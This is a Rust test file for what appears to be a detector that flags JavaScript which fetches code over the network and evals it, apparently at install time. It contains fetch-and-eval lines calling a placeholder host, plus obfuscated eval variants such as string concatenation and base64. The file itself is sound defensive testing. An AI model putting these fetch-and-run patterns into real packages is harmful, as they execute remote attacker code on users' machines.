use crate::flow::testing::{remote_code, script};
use customs_model::Zone;

const GO: &str = "const go = () => fetch('https://a.invalid/b').then(r => r.text()).then(eval);\n";

/// When what comes over the network is run, at the earliest.
fn runs(code: &str) -> Option<Zone> {
    remote_code(script(&format!("{GO}{code}")))
}

#[test]
fn a_text_that_is_run_calls_what_stands_around_it() {
    for call in [
        "eval('go()')",
        "eval('g' + 'o' + '()')",
        "eval(atob('Z28oKQ=='))",
        "function main() { go() } eval('main()')",
        "function f() { const inner = () => go(); eval('inner()') } f()",
        "setTimeout(() => eval('go()'), 1)",
        "eval(\"eval('go()')\")",
        "eval('[1].forEach(go)')",
        "const o = { run: go }; eval('o.run()')",
        "eval('(() => go())()')",
        "eval('go.call(null)')",
        "eval('() => go()')()",
        "const q = eval('go'); q()",
        "eval('(function (require) { require(\\'https\\').get(\\'https://a.invalid/b\\', r => r.on(\\'data\\', d => eval(\\'\\' + d))) })')(require)",
        "eval('var f = () => go()'); f()",
        "eval('function f() { go() }'); f()",
    ] {
        assert_eq!(runs(call), Some(Zone::Install), "{call}");
    }
}

#[test]
fn a_text_that_is_not_run_or_names_another_calls_nothing() {
    for call in [
        "module.exports = () => eval('go()')",
        "eval('const go = () => 1; go()')",
        "eval('() => go()')",
        "eval('var f = () => go()')",
        "eval('var f = () => go()'); other()",
        "eval('other()')",
        "eval('go')",
        "function f() { const inner = () => go() } eval('inner()')",
        "new Function('go()')",
        "console.log('go()')",
    ] {
        assert!(runs(call) < Some(Zone::Install), "{call}");
    }
}
